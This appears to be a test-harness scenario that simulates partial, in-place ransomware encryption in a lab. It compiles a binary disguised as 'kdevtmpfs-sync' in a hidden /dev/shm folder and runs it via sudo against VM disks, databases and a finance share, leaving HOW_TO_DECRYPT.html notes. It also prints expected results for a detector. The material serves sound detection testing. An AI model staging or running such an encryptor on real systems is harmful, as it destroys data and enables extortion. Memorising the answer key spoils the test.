# Unknown native binary with intermittent encryption (bin-src/partial.c, dropped as "kdevtmpfs-sync"):
# first 4 KB of each file plus every other 1 MB chunk, in place, NO rename; HOW_TO_DECRYPT.html per dir.
HOST=esx-mgmt01.corp.example
SUMMARY="Attack: unknown native binary with intermittent (partial) in-place encryption and no rename (bin-src/partial.c as /dev/shm/.x/kdevtmpfs-sync), sudo from dave's session, over VM disks, databases and the finance share; HOW_TO_DECRYPT.html per directory."
targets() { find "$RT_ROOT/vm" "$RT_ROOT/db" "$RT_ROOT/shares/finance" -type f \( -name '*.qcow2' -o -name '*.vmdk' -o -name '*.sqlite' -o -name '*.db' -o -name '*.pdf' -o -name '*.xlsx' \); }

scenario_prepare() {
    mkdir -p /dev/shm/.x && rt_compile partial /dev/shm/.x/kdevtmpfs-sync
    targets | sort > "$RT_OPT.targets"
    rt_fingerprint "$RT_OPT.md5" < "$RT_OPT.targets"
    N_FILES=$(wc -l < "$RT_OPT.targets"); N_DIRS=$(rt_count_dirs < "$RT_OPT.targets")
}
scenario_run() {
    rt_attack as_login dave "sudo /dev/shm/.x/kdevtmpfs-sync -n HOW_TO_DECRYPT.html -x .qcow2,.vmdk,.sqlite,.db,.pdf,.xlsx /srv/rt-lab/vm /srv/rt-lab/db /srv/rt-lab/shares/finance"
}
scenario_verify() {
    rt_check changed-in-place "$(rt_changed "$RT_OPT.md5")" "$N_FILES" &&
    rt_check names-kept "$(targets | wc -l)" "$N_FILES" &&
    rt_check notes "$(find "$RT_ROOT" -name HOW_TO_DECRYPT.html | wc -l)" "$N_DIRS"
}
scenario_truth() {
    cat <<Y
expected:
  - rootExe: /dev/shm/.x/kdevtmpfs-sync
    rootCommandContains: "kdevtmpfs-sync -n HOW_TO_DECRYPT.html"
    loginUser: dave
    runAsUser: root
    filesAffected: $N_FILES
    overwrite: in-place
    newExtension: null
    partial: true
    notes: { name: HOW_TO_DECRYPT.html, directories: $N_DIRS }
    tools: []
    targetRoots: [/srv/rt-lab/vm, /srv/rt-lab/db, /srv/rt-lab/shares/finance]
Y
}
scenario_cleanup() { rm -rf /dev/shm/.x "$RT_OPT.targets" "$RT_OPT.md5"; }
